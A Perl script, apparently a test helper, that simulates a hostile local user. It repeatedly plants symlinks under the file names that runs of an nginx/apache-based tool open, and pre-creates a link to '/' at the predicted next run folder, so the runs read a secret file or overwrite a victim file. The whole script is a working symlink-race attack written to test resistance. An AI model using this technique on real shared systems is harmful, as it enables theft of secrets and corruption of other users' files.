# Another user of this machine, in a loop: wherever a folder of a run lets it, it plants links, pipes and files of its own under
# every name that a run or a server may open, so that they read SECRET or write into VICTIM.
#   perl intruder.pl TEMPORARY SECRET VICTIM
use strict;
use warnings;
use POSIX ();

my ($temporary, $secret, $victim) = @ARGV;
my $parent = getppid;
my @names  = qw(nginx.conf output application access.log error.log apache.pid both.pem test.key index.html uploads root-0);

mkdir "$temporary/intruder" or die "cannot write into $temporary: $!";
while (getppid == $parent) {
    for my $run (glob "$temporary/tlstax-run-*") {
        foreseen($run);
        my @folders = ($run, map { "$run/$_" } listed($run), 'nginx-1', 'nginx-1/own', 'root-0');
        plant($_) for @folders;
    }
}

# The folder of the next run, if its name can be foreseen.
sub foreseen {
    my ($run) = @_;
    symlink '/', "$temporary/$1" . ($2 + 1) if $run =~ m{([^/]+-)(\d{1,6})$};
}

sub listed {
    my ($folder) = @_;
    opendir my $handle, $folder or return;
    return grep { !/^\./ } readdir $handle;
}

sub plant {
    my ($folder) = @_;
    my $own = "$folder/.planted.$$";
    for my $name (@names, grep { /\.part$/ } listed($folder)) {
        my $target = $name eq 'access.log' || $name eq 'error.log' ? $secret : $victim;
        symlink $target, $own or return;
        rename $own, "$folder/$name" or unlink $own;
    }
}
